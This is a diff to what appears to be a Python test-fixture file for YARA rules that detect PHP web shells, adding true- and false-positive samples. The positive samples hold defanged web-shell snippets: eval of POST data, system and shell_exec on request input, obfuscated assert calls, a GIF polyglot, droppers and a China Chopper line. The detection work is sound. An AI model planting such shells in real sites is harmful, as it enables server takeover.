@@ -125,6 +125,12 @@ PHP_SAMPLES: tuple[Sample, ...] = (
     ),
     Sample(
         "php_obfuscated_eval_decoder",
+        True,
+        "o1x.php",
+        '<?php @ev§al("\\x65\\x63\\x68\\x6f\\x20\\x27\\x68\\x69\\x27\\x3b"); ?>\n',
+    ),
+    Sample(
+        "php_obfuscated_eval_decoder",
         False,
         "token.php",
         "<?php\n$json = base64_decode($token);\n$data = json_decode($json, true);\n",
@@ -146,13 +152,13 @@ PHP_SAMPLES: tuple[Sample, ...] = (
         "php_obfuscated_function_name",
         True,
         "o4.php",
-        "<?php $f = str_rot13('nff§reg'); $g = strrev('tre§ssa'); $f($_POST['x']); ?>\n",
+        "<?php $f = str_rot13('nff§reg'); $g = strrev('tre§ssa');§ $f($_POST['x']); ?>\n",
     ),
     Sample(
         "php_obfuscated_function_name",
         True,
         "o5.php",
-        "<?php $f = chr(97)§.chr(115).chr(115).chr(101).chr(114).chr(116); $f($_POST['x']); ?>\n",
+        "<?php $f = chr(97)§.chr(115).chr(115).chr(101).chr(114).chr(116);§ $f($_POST['x']); ?>\n",
     ),
     Sample(
         "php_obfuscated_function_name",
@@ -165,6 +171,191 @@ PHP_SAMPLES: tuple[Sample, ...] = (
         False,
         "labels.php",
         "<?php\n$label = 'Assert' . 'ions';\n$encoded = base64_encode('system');\n$r = strrev('hello');\n",
+    ),
+    # --- PHP techniques (php_techniques.yar) ----------------------------------------------------
+    Sample(
+        "php_small_request_to_sink",
+        True,
+        "run.php",
+        "<?php\n$p = $_CO§OKIE['k'];\nfunction run($x) { return sys§tem($x); }\nrun($p);\n",
+    ),
+    Sample(
+        "php_small_request_to_sink",
+        True,
+        "page.php",
+        "<?php\nsession_start();\n$_SESSION['f'] = $_PO§ST['f'];\n@incl§ude $_SESSION['f'];\n",
+    ),
+    Sample(
+        "php_small_request_to_sink",
+        False,
+        "hits.php",
+        "<?php\n$id = (int) $_GET['id'];\n$pdo->exec('UPDATE news SET hits = hits + 1 WHERE id = ' . $id);\n"
+        "include 'footer.php';\n",
+    ),
+    Sample(
+        "php_small_request_to_sink",
+        False,
+        "router.php",
+        "<?php\n$page = $_GET['p'] ?? 'home';\n$file = __DIR__ . '/pages/' . basename($page) . '.php';\n"
+        "if (is_file($file)) {\n    include $file;\n}\n",
+    ),
+    Sample(
+        "php_small_request_callback",
+        True,
+        "sort.php",
+        "<?php\n$a = array($_RE§QUEST['k'], '1');\nus§ort($a, 'as' . 'se§rt');\n",
+    ),
+    Sample(
+        "php_small_request_callback",
+        False,
+        "tags.php",
+        "<?php\n$tags = array_map('trim', explode(',', $_POST['tags'] ?? ''));\nusort($tags, 'strcmp');\n",
+    ),
+    Sample(
+        "php_small_name_synthesis_call",
+        True,
+        "n.php",
+        "<?php\n$f = 'sy' . 'st' . 'em';\n$f($_GE§T['c']);\n",
+    ),
+    Sample(
+        "php_small_name_synthesis_call",
+        False,
+        "fmt.php",
+        "<?php\n$cb = $formatters[$_GET['as'] ?? ''] ?? 'strval';\necho $cb($value);\n",
+    ),
+    Sample(
+        "php_request_to_sink_nearby",
+        True,
+        "hdr2.php",
+        "<?php\n$cmd = getenv('HTTP_X_§CMD');\necho sh§ell_exec($cmd);\n",
+    ),
+    Sample(
+        "php_request_to_sink_nearby",
+        False,
+        "count.php",
+        "<?php\n$n = (int) ($_GET['n'] ?? 0);\nassert($n >= 0);\necho str_repeat('*', $n);\n",
+    ),
+    Sample(
+        "php_callback_dangerous_name",
+        True,
+        "ob.php",
+        "<?php\nob_st§art('ass§ert');\necho $payload;\nob_end_flush();\n",
+    ),
+    Sample(
+        "php_callback_dangerous_name",
+        True,
+        "sorter.php",
+        "<?php\n$a = array($payload, '1');\nuas§ort($a, $_GE§T['f']);\n",
+    ),
+    Sample(
+        "php_small_name_synthesis_call",
+        True,
+        "v.php",
+        "<?php\n@extract($_REQ§UEST);\n$f = $_GE§T['f'];\n@$f($k);\n",
+    ),
+    Sample(
+        "php_callback_dangerous_name",
+        False,
+        "gz.php",
+        "<?php\nob_start('ob_gzhandler');\necho 'Hello';\nob_end_flush();\n",
+    ),
+    Sample(
+        "php_encoded_payload_eval",
+        True,
+        "enc.php",
+        f"<?php\n$c = base64_de§code('{BLOB}');\n@ev§al($c);\n",
+    ),
+    Sample(
+        "php_encoded_payload_eval",
+        False,
+        "logo.php",
+        f"<?php\n$img = base64_decode('{BLOB}');\nheader('Content-Type: image/png');\necho $img;\n",
+    ),
+    Sample(
+        "php_image_polyglot",
+        True,
+        "avatar.gif.php",
+        "GIF89a\x01\x00\x01\x00\n<?php @ev§al($_PO§ST['x']); ?>\n",
+    ),
+    Sample(
+        "php_image_polyglot",
+        False,
+        "photo.php",
+        "GIF89a\x01\x00\x01\x00<?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?><x:xmpmeta/>\n",
+    ),
+    Sample(
+        "php_small_dropper",
+        True,
+        "save.php",
+        "<?php\n$n = $_RE§QUEST['n'];\n$h = fo§pen($n, 'w');\nfwrite($h, base64_decode($_POST['d']));\nfclose($h);\n",
+    ),
+    Sample(
+        "php_small_dropper",
+        True,
+        "get.php",
+        "<?php\nfile_put_con§tents(__DIR__ . '/images/thumb.ph§tml', file_get_contents('http://example.invalid/s.txt'));\n",
+    ),
+    Sample(
+        "php_small_dropper",
+        False,
+        "visits.php",
+        "<?php\n$line = date('c') . ' ' . ($_GET['page'] ?? '') . \"\\n\";\n"
+        "file_put_contents(__DIR__ . '/visits.log', $line, FILE_APPEND);\n",
+    ),
+    Sample(
+        "php_nonalnum_shell",
+        True,
+        "x.php",
+        "<?php\n$_=('!'^'@').(','^'_').('-'^'^').('>'^'[').('['^')').(']'^')');\n"
+        "$__='_'.('+'^'{').('`'^'/').('.'^'}').('/'^'{');\n$___=$$§__;\n@$_($§___['_']);\n",
+    ),
+    Sample(
+        "php_nonalnum_shell",
+        False,
+        "under.php",
+        "<?php\n$_ = $_GET;\n$__ = 'strval';\necho htmlspecialchars($__($_['q'] ?? ''));\n",
+    ),
+    Sample(
+        "php_request_sink_shell_traits",
+        True,
+        "fm.php",
+        "<?php\n@error_reporting(0);\n@set_time_limit(0);\n"
+        "echo php_uname() . getcwd() . ini_get('disable_functions');\n?>\n"
+        + "<table>"
+        + "".join(f"<tr><td>row {i}</td><td>{'x' * 40}</td></tr>\n" for i in range(120))
+        + "</table>\n"
+        "<?php\nclass Box { public $c; }\n$b = new Box();\n$b->c = $_PO§ST['k'];\n"
+        "function run($o) { return shell_e§xec($o->c . ' 2>&1'); }\necho run($b);\n",
+    ),
+    Sample(
+        "php_request_sink_shell_traits",
+        False,
+        "probe.php",
+        "<?php\n@set_time_limit(0);\n$tab = $_GET['tab'] ?? 'os';\n"
+        "echo php_uname() . ' ' . getcwd() . ' ' . ini_get('disable_functions');\n"
+        "echo '<pre>' . htmlspecialchars((string) shell_ex§ec('uptime 2>&1')) . '</pre>';\n",
+    ),
+    Sample(
+        "php_name_synthesis_call_medium",
+        True,
+        "theme.php",
+        "<?php\n"
+        + "".join(
+            f"function block_{i}($t) {{ return '<div class=\"b{i}\">' . htmlspecialchars($t) . '</div>'; }}\n"
+            for i in range(60)
+        )
+        + "$f = '!#%&()' §^ 'RZVRMD';\n@$f($_PO§ST['x']);\n",
+    ),
+    Sample(
+        "php_name_synthesis_call_medium",
+        False,
+        "mask.php",
+        "<?php\n"
+        + "".join(
+            f"function block_{i}($t) {{ return '<div class=\"b{i}\">' . htmlspecialchars($t) . '</div>'; }}\n"
+            for i in range(60)
+        )
+        + "$mask = 'abc' ^ 'xyz';\n$render = $renderers[$_GET['r'] ?? ''] ?? 'strval';\necho $render($mask);\n",
     ),
     # --- China Chopper -------------------------------------------------------------------------
     Sample("china_chopper_php", True, "1.php", "<?php @ev§al($_PO§ST['chopper']);?>"),
